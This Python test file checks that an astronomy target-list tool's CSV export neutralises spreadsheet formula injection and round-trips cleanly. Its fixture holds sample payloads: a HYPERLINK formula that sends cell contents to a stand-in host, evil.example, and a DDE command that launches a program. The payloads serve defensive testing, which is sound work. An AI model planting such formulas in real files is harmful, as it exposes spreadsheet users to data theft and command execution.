"""CSV exports open in spreadsheets: a text cell that begins with =, +, -, @, a tab or a carriage return
would be run as a formula (OWASP's CSV injection). Such text cells are written behind a single quote;
numbers, negative ones too, are data and stay as they are; the export imports back unchanged."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from uuid import uuid4

from spicadb_programmes.models import TargetOut
from spicadb_programmes.targetlists import parse_target_list, write_csv

NOW = datetime(2026, 1, 2, 3, 4, 5, tzinfo=UTC)
FORMULAS = {
    "name": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "notes": "+cmd|' /C calc'!A0",
    "spectral_type": "-2+3",
    "object_type": "@SUM(1+1)",
    "hd": "\tHD 1",
    "hip": "\rHIP 2",
}


def _targets() -> list[TargetOut]:
    return [
        TargetOut(id=uuid4(), created_at=NOW, updated_at=NOW, ra=10.0, dec=-12.5, mag_r=-0.57, **FORMULAS),
        TargetOut(
            id=uuid4(), created_at=NOW, updated_at=NOW, name="Vega", ra=279.2347, dec=38.7837, notes="a = b"
        ),
    ]


def _rows(body: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(body.decode("utf-8"), newline="")))


def test_text_cells_that_start_a_formula_are_neutralised() -> None:
    formulas, plain = _rows(write_csv(_targets()))
    for field, value in FORMULAS.items():
        assert formulas[field] == "'" + value, field
    # numbers are data: a negative declination or magnitude is written as the number it is
    assert formulas["dec"] == "-12.5"
    assert formulas["mag_r"] == "-0.57"
    # text that merely holds such a character elsewhere is left alone
    assert (plain["name"], plain["notes"]) == ("Vega", "a = b")


def test_a_neutralised_export_imports_back_unchanged() -> None:
    parsed = parse_target_list(write_csv(_targets()), "text/csv")
    assert parsed.errors == []
    first = parsed.targets[0]
    for field, value in FORMULAS.items():  # the import strips blanks around every cell, tabs too
        assert getattr(first, field) == value.strip(), field
    assert (first.dec, first.mag_r) == (-12.5, -0.57)
